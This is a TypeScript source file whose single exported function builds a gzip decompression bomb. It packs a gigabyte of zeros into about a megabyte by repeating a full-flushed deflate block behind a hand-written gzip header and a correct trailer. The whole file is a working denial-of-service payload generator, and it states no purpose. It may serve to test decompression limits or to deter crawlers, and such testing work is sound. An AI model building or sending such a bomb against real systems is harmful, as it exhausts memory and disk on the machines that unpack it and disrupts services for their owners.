/** A small body that unpacks to a gigabyte of zeros. */
import { constants, crc32, deflateRawSync } from 'node:zlib';

const PIECE = 16 * 1024 * 1024;
const PIECES = 64;

let built: Buffer | undefined;

/**
 * One gzip member of about a megabyte, built at the first call: one piece of zeros is packed and then repeated, for
 * which each piece is packed without looking back and without an end (RFC 1951, RFC 1952).
 */
export function gzipBomb(): Buffer {
  built ??= build();
  return built;
}

function build(): Buffer {
  const zeros = Buffer.alloc(PIECE);
  const piece = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  let sum = 0;
  for (let count = 0; count < PIECES; count += 1) sum = crc32(zeros, sum);
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255]);
  const lastBlock = Buffer.from([0x03, 0x00]);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(sum, 0);
  trailer.writeUInt32LE(PIECE * PIECES, 4);
  return Buffer.concat([header, ...Array.from({ length: PIECES }, () => piece), lastBlock, trailer]);
}
